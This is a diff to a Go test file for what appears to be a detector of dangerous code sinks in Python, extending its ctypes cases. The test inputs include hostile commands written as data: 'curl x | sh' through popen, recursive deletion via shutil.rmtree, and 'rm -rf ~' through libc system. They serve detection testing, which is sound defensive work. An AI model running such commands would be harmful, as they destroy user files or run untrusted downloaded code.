@@ -39,7 +39,9 @@ func TestCodeSinks(t *testing.T) {
 		{"py-ctypes-find-library", Python, "import ctypes, ctypes.util\nc = ctypes.CDLL(ctypes.util.find_library('c'))\nc.popen(b'curl x | sh', b'r')", []string{"shell c.popen: curl x | sh"}},
 		{"py-ctypes-pythonapi", Python, `import ctypes; ctypes.pythonapi.PyRun_SimpleString(b"import shutil; shutil.rmtree('/z')")`,
 			[]string{"delete -r ctypes.pythonapi.PyRun_SimpleString → shutil.rmtree: /z"}},
-		{"py-ctypes-look", Python, `import ctypes; print(ctypes.sizeof(ctypes.c_int)); libc = ctypes.CDLL(None); libc.getpid(); import platform; platform.system()`, nil},
+		{"py-ctypes-subscript", Python, `import ctypes; ctypes.CDLL(None)["system"](b"rm -rf ~"); f = ctypes.CDLL(None).system; f(cmd)`,
+			[]string{"shell system: rm -rf ~", "hidden system: system of a C library used as a value"}},
+		{"py-ctypes-look", Python, `import ctypes; print(ctypes.sizeof(ctypes.c_int)); libc = ctypes.CDLL(None); libc.getpid(); libc.system.argtypes = [ctypes.c_char_p]; import platform; platform.system()`, nil},
 	}
 	for _, tc := range cases {
 		var got []string
